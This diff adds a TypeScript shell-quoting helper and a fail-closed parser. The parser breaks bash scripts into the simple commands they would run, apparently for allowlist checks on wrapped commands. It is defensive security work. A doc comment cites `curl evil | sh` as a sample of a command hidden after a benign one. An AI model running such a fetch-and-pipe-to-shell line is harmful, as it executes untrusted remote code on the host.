@@ -74,6 +74,13 @@ export function buildCmdLine(cmd: string, args: string[]): string {
   return joined;
 }
 
+/**
+ * Quote a string as a single shell word (POSIX single quotes)
+ */
+export function quoteShellArg(value: string): string {
+  return `'${value.replace(/'/g, `'\\''`)}'`;
+}
+
 /**
  * Simple shell command parser that tokenizes a command string
  * Handles basic quoting (single and double quotes) similar to shlex.split()
@@ -127,6 +134,424 @@ export function parseShellCommand(cmdStr: string): string[] {
   return tokens;
 }
 
+/** ---------- Shell Script Parsing ---------- */
+
+/** A simple command found in a shell script, e.g. `curl evil` in `git status; curl evil | sh` */
+export type SimpleCommand = {
+  argv: string[];   // words with quotes removed, leading env assignments and reserved words stripped
+  source: string;   // the raw segment as written in the script
+};
+
+// Reserved words that may precede a command in the same segment (`if git diff`, `do make`)
+const LEADING_RESERVED_WORDS = new Set(["!", "{", "if", "then", "else", "elif", "do", "while", "until", "time"]);
+// Reserved words that close a compound command and run nothing themselves
+const CLOSING_RESERVED_WORDS = new Set(["}", "fi", "done", "esac"]);
+const ASSIGNMENT_PATTERN = /^[A-Za-z_][A-Za-z0-9_]*=/;
+
+type PendingHeredoc = { delimiter: string; quoted: boolean; stripTabs: boolean };
+
+/**
+ * Parse a shell script (the string passed to `bash -c`) into every simple command it would run.
+ * Splits on `|`, `|&`, `||`, `&&`, `;`, `&` and newlines, and descends into `( ... )` subshells,
+ * `$(...)` and backtick command substitutions (including inside double quotes and unquoted
+ * heredocs) and `<(...)`/`>(...)` process substitutions.
+ *
+ * Fails closed: throws on unterminated quotes or substitutions and on syntax it does not
+ * understand (such as `case` patterns or function definitions), so callers can deny the command.
+ */
+export function parseShellScript(script: string): SimpleCommand[] {
+  const commands: SimpleCommand[] = [];
+  const end = parseSequence(script, 0, null, commands);
+  if (end !== script.length) {
+    throw new Error(`unexpected ')' at position ${end}`);
+  }
+  return commands;
+}
+
+/**
+ * Parse commands from `start` until `close` (`)` or a backtick) or the end of input.
+ * Appends every simple command found to `out` and returns the index after the terminator.
+ */
+function parseSequence(src: string, start: number, close: ")" | "`" | null, out: SimpleCommand[]): number {
+  let words: string[] = [];
+  let current = "";
+  let inWord = false;
+  let redirectEnd = -1;  // index after the last unquoted '<' or '>'
+  let segmentStart = start;
+  let sawSubshell = false;
+  let heredocs: PendingHeredoc[] = [];
+  let i = start;
+
+  const endWord = () => {
+    if (inWord) {
+      words.push(current);
+      current = "";
+      inWord = false;
+    }
+  };
+
+  const endCommand = (endIndex: number) => {
+    endWord();
+    if (sawSubshell) {
+      // Only redirections may follow a subshell: (cd x && make) > log
+      if (words.length > 0 && !isRedirection(words[0]!)) {
+        throw new Error(`unexpected word after subshell: ${words.join(" ")}`);
+      }
+    } else {
+      const command = toSimpleCommand(words, src.slice(segmentStart, endIndex).trim());
+      if (command) out.push(command);
+    }
+    words = [];
+    sawSubshell = false;
+  };
+
+  while (i < src.length) {
+    const c = src[i]!;
+    const next = src[i + 1];
+
+    if (close === "`" && c === "`") {
+      endCommand(i);
+      return i + 1;
+    }
+
+    if (c === ")") {
+      if (close !== ")") {
+        throw new Error(`unexpected ')' at position ${i}`);
+      }
+      endCommand(i);
+      return i + 1;
+    }
+
+    if (c === " " || c === "\t") {
+      endWord();
+      i++;
+      continue;
+    }
+
+    if (c === "\\") {
+      if (next === "\n") {
+        i += 2;  // line continuation
+        continue;
+      }
+      if (next === undefined) {
+        throw new Error("trailing backslash");
+      }
+      current += next;
+      inWord = true;
+      i += 2;
+      continue;
+    }
+
+    if (c === "$" && next === "'") {
+      const { text, end } = readAnsiCQuoted(src, i + 2);
+      current += text;
+      inWord = true;
+      i = end;
+      continue;
+    }
+
+    if (c === "'") {
+      const closeQuote = src.indexOf("'", i + 1);
+      if (closeQuote === -1) {
+        throw new Error("unterminated single quote");
+      }
+      current += src.slice(i + 1, closeQuote);
+      inWord = true;
+      i = closeQuote + 1;
+      continue;
+    }
+
+    if (c === '"') {
+      const { text, end } = readDoubleQuoted(src, i + 1, out);
+      current += text;
+      inWord = true;
+      i = end;
+      continue;
+    }
+
+    if (c === "$" && next === "(") {
+      const end = src[i + 2] === "(" ? readArithmetic(src, i + 3, out) : parseSequence(src, i + 2, ")", out);
+      current += src.slice(i, end);
+      inWord = true;
+      i = end;
+      continue;
+    }
+
+    if (c === "`") {
+      const end = parseSequence(src, i + 1, "`", out);
+      current += src.slice(i, end);
+      inWord = true;
+      i = end;
+      continue;
+    }
+
+    if ((c === "<" || c === ">") && next === "(") {
+      // Process substitution: <(cmd) or >(cmd)
+      const end = parseSequence(src, i + 2, ")", out);
+      current += src.slice(i, end);
+      inWord = true;
+      i = end;
+      continue;
+    }
+
+    if (c === "#" && !inWord) {
+      while (i < src.length && src[i] !== "\n") i++;
+      continue;
+    }
+
+    if (c === "(") {
+      if (inWord || words.length > 0) {
+        throw new Error(`unsupported syntax '(' after '${[...words, current].join(" ").trim()}'`);
+      }
+      i = parseSequence(src, i + 1, ")", out);
+      sawSubshell = true;
+      segmentStart = i;
+      continue;
+    }
+
+    if (c === "<" && next === "<" && src[i + 2] !== "<") {
+      // Heredoc: record the delimiter; the body starts after the next newline
+      const stripTabs = src[i + 2] === "-";
+      let j = i + (stripTabs ? 3 : 2);
+      while (src[j] === " " || src[j] === "\t") j++;
+      let delimiter = "";
+      let quoted = false;
+      while (j < src.length && !/[\s;&|<>()]/.test(src[j]!)) {
+        const d = src[j]!;
+        if (d === "'" || d === '"' || d === "\\") {
+          quoted = true;
+        } else {
+          delimiter += d;
+        }
+        j++;
+      }
+      if (!delimiter) {
+        throw new Error("missing heredoc delimiter");
+      }
+      endWord();
+      words.push(src.slice(i, j));
+      heredocs.push({ delimiter, quoted, stripTabs });
+      i = j;
+      continue;
+    }
+
+    // Only an unquoted, unescaped '<' or '>' right before this character starts a redirection
+    const redirectPrefix = inWord && redirectEnd === i;
+
+    if (c === "&" && (redirectPrefix || next === ">")) {
+      // Part of a redirection: 2>&1, >&2, &>, &>>
+      current += c;
+      inWord = true;
+      i++;
+      continue;
+    }
+
+    if (c === "|" && redirectPrefix) {
+      // Clobbering redirection: >|
+      current += c;
+      i++;
+      continue;
+    }
+
+    if (c === "|" || c === "&" || c === ";" || c === "\n") {
+      endCommand(i);
+      let opLength = 1;
+      if ((c === "|" && (next === "|" || next === "&")) || (c === "&" && next === "&") || (c === ";" && next === ";")) {
+        opLength = 2;
+      }
+      i += opLength;
+      if (c === "\n" && heredocs.length > 0) {
+        i = readHeredocBodies(src, i, heredocs, out);
+        heredocs = [];
+      }
+      segmentStart = i;
+      continue;
+    }
+
+    current += c;
+    inWord = true;
+    i++;
+    if (c === "<" || c === ">") redirectEnd = i;
+  }
+
+  if (close !== null) {
+    throw new Error(close === ")" ? "unterminated '(' or '$('" : "unterminated backtick");
+  }
+  if (heredocs.length > 0) {
+    throw new Error(`unterminated heredoc (missing '${heredocs[0]!.delimiter}')`);
+  }
+  endCommand(src.length);
+  return src.length;
+}
+
+/**
+ * Read a double-quoted string starting after the opening quote (or, when `terminator`
+ * is null, until the end of input), descending into command substitutions.
+ */
+function readDoubleQuoted(src: string, start: number, out: SimpleCommand[], terminator: '"' | null = '"'): { text: string; end: number } {
+  let text = "";
+  let i = start;
+  while (i < src.length) {
+    const c = src[i]!;
+    const next = src[i + 1];
+    if (terminator && c === terminator) {
+      return { text, end: i + 1 };
+    }
+    if (c === "\\" && next !== undefined) {
+      text += "$`\"\\\n".includes(next) ? next : c + next;
+      i += 2;
+      continue;
+    }
+    if (c === "$" && next === "(") {
+      const end = src[i + 2] === "(" ? readArithmetic(src, i + 3, out) : parseSequence(src, i + 2, ")", out);
+      text += src.slice(i, end);
+      i = end;
+      continue;
+    }
+    if (c === "`") {
+      const end = parseSequence(src, i + 1, "`", out);
+      text += src.slice(i, end);
+      i = end;
+      continue;
+    }
+    text += c;
+    i++;
+  }
+  if (terminator) {
+    throw new Error("unterminated double quote");
+  }
+  return { text, end: i };
+}
+
+const ANSI_C_ESCAPES: Record<string, string> = {
+  a: "\x07", b: "\b", e: "\x1b", E: "\x1b", f: "\f", n: "\n", r: "\r", t: "\t", v: "\v",
+  "\\": "\\", "'": "'", '"': '"', "?": "?",
+};
+
+/**
+ * Read an ANSI-C quoted string `$'...'` starting after the opening quote. A backslash
+ * escapes the next character, so `\'` does not end the string. Common escapes are
+ * decoded; numeric and control escapes are kept as written.
+ */
+function readAnsiCQuoted(src: string, start: number): { text: string; end: number } {
+  let text = "";
+  let i = start;
+  while (i < src.length) {
+    const c = src[i]!;
+    if (c === "'") {
+      return { text, end: i + 1 };
+    }
+    if (c === "\\") {
+      const next = src[i + 1];
+      if (next === undefined) break;
+      text += ANSI_C_ESCAPES[next] ?? c + next;
+      i += 2;
+      continue;
+    }
+    text += c;
+    i++;
+  }
+  throw new Error("unterminated $' quote");
+}
+
+/**
+ * Read an arithmetic expansion body `$(( ... ))`, returning the index after the closing `))`.
+ * bash expands command substitutions in the body before evaluating it, so they are parsed
+ * like those in double quotes.
+ */
+function readArithmetic(src: string, start: number, out: SimpleCommand[]): number {
+  let depth = 0;
+  let i = start;
+  while (i < src.length) {
+    const c = src[i]!;
+    const next = src[i + 1];
+    if (c === "\\") {
+      i += 2;
+      continue;
+    }
+    if (c === "$" && next === "(") {
+      i = src[i + 2] === "(" ? readArithmetic(src, i + 3, out) : parseSequence(src, i + 2, ")", out);
+      continue;
+    }
+    if (c === "`") {
+      i = parseSequence(src, i + 1, "`", out);
+      continue;
+    }
+    if (c === '"') {
+      i = readDoubleQuoted(src, i + 1, out).end;
+      continue;
+    }
+    if (c === "'") {
+      throw new Error("unsupported quote in arithmetic expansion");
+    }
+    if (c === "(") depth++;
+    if (c === ")") {
+      if (depth === 0) {
+        if (next !== ")") break;
+        return i + 2;
+      }
+      depth--;
+    }
+    i++;
+  }
+  throw new Error("unterminated arithmetic expansion");
+}
+
+/**
+ * Consume heredoc bodies starting at `start` (just after the newline that ends the
+ * command line). Unquoted bodies are scanned for command substitutions.
+ */
+function readHeredocBodies(src: string, start: number, heredocs: PendingHeredoc[], out: SimpleCommand[]): number {
+  let i = start;
+  for (const heredoc of heredocs) {
+    let body = "";
+    let terminated = false;
+    while (i < src.length) {
+      const lineEnd = src.indexOf("\n", i);
+      const line = src.slice(i, lineEnd === -1 ? src.length : lineEnd);
+      i = lineEnd === -1 ? src.length : lineEnd + 1;
+      const candidate = heredoc.stripTabs ? line.replace(/^\t+/, "") : line;
+      if (candidate === heredoc.delimiter) {
+        terminated = true;
+        break;
+      }
+      body += line + "\n";
+    }
+    if (!terminated) {
+      throw new Error(`unterminated heredoc (missing '${heredoc.delimiter}')`);
+    }
+    if (!heredoc.quoted) {
+      readDoubleQuoted(body, 0, out, null);
+    }
+  }
+  return i;
+}
+
+function isRedirection(word: string): boolean {
+  return /^(\d*|&)(>>?|<<?<?|>&|<&|>\||&>>?)/.test(word);
+}
+
+/**
+ * Turn the words of one segment into a SimpleCommand, dropping reserved words and
+ * leading env assignments. Returns null for segments that run nothing.
+ */
+function toSimpleCommand(words: string[], source: string): SimpleCommand | null {
+  let argv = [...words];
+  while (argv.length > 0 && LEADING_RESERVED_WORDS.has(argv[0]!)) {
+    argv.shift();
+  }
+  while (argv.length > 0 && ASSIGNMENT_PATTERN.test(argv[0]!)) {
+    argv.shift();
+  }
+  if (argv.length === 0 || (argv.length === 1 && CLOSING_RESERVED_WORDS.has(argv[0]!))) {
+    return null;
+  }
+  if (argv.every(isRedirection)) {
+    return null;
+  }
+  return { argv, source };
+}
+
 /**
  * Parse a shell wrapper command (bash or sh) and extract the underlying command for allowlist checking
  * Handles: bash -lc "cmd args", bash -c "cmd args", bash -l -c "cmd args"